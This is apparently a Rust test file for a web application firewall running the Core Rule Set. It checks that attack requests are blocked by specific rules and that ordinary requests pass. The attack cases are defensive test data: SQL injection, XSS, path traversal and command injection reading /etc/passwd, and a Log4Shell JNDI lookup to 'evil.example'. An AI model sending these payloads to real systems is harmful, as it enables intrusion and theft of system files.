//! The Core Rule Set at paranoia level 1, blocking: attacks are refused by the rules that are meant to, ordinary
//! requests pass without a single detection.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stdout
)]

mod exchange;

use std::sync::{Arc, OnceLock};

use exchange::{Exchange, form, get, post};
use palisade_waf::Engine;

fn crs() -> Option<Arc<Engine>> {
    static ENGINE: OnceLock<Option<Arc<Engine>>> = OnceLock::new();
    let compiled = ENGINE.get_or_init(|| {
        let directory = exchange::crs_directory()?;
        let mut policy = exchange::policy();
        policy.paranoia_level = Some(1);
        let set = exchange::crs(&directory, "", "");
        Some(Arc::new(Engine::compile(&set, &policy).unwrap_or_else(|error| panic!("{error}"))))
    });
    compiled.clone()
}

fn browser(exchange: Exchange) -> Exchange {
    exchange
        .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
        .header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        .header("Accept-Language", "en-US,en;q=0.5")
}

#[test]
fn attacks_are_blocked_by_the_rules_that_are_meant_to() {
    let Some(engine) = crs() else { return };
    let cases: Vec<(&str, Exchange, u64)> = vec![
        ("SQLi", get("/search?q=1%27%20OR%20%271%27=%271"), 942100),
        ("SQLi in a form", form("/login", "user=admin'--+-&password=x%27+or+1%3D1--"), 942100),
        ("XSS", get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), 941100),
        ("path traversal", get("/download?file=../../../../etc/passwd"), 930120),
        ("path traversal, raw", get("/static/../../../../etc/passwd"), 930110),
        ("encoded traversal", get("/download?file=..%2f..%2f..%2fetc%2fpasswd"), 930100),
        ("command injection", get("/ping?host=127.0.0.1;cat%20/etc/passwd"), 932160),
        ("Log4Shell", get("/").header("X-Api-Version", "${jndi:ldap://evil.example/a}"), 944150),
    ];
    for (name, exchange, rule) in cases {
        let outcome = browser(exchange).run(&engine);
        let interruption = outcome.interruption.as_ref().unwrap_or_else(|| panic!("{name} passed"));
        assert_eq!((interruption.rule, interruption.status.as_u16()), (949110, 403), "{name}");
        assert!(outcome.ids().contains(&rule), "{name}: {rule} is not among {:?}", outcome.ids());
        assert!(
            interruption.explanation.starts_with("Inbound Anomaly Score Exceeded (Total Score: "),
            "{name}"
        );
    }
}

#[test]
fn ordinary_requests_pass_without_a_detection() {
    let Some(engine) = crs() else { return };
    let cases = vec![
        ("navigation", get("/")),
        ("an asset with a version", get("/static/app.min.js?v=3.2.1")),
        ("search with an apostrophe", get("/search?q=O%27Brien+%26+Sons+(Ltd.)&page=2")),
        ("a sentence", get("/search?q=how+to+select+a+table+from+the+catalogue")),
        (
            "cookies",
            get("/account").header("Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark; lang=en"),
        ),
        (
            "form",
            form(
                "/contact",
                "name=Jane+Doe&email=jane.doe%40example.com&message=Hello%2C+I+can%27t+log+in.+Thanks%21",
            ),
        ),
    ];
    for (name, exchange) in cases {
        let outcome = browser(exchange).run(&engine);
        assert_eq!(outcome.ids(), Vec::<u64>::new(), "{name}: {:?}", outcome.matches);
        assert_eq!(outcome.interruption, None, "{name}");
    }
    let _ = post;
}
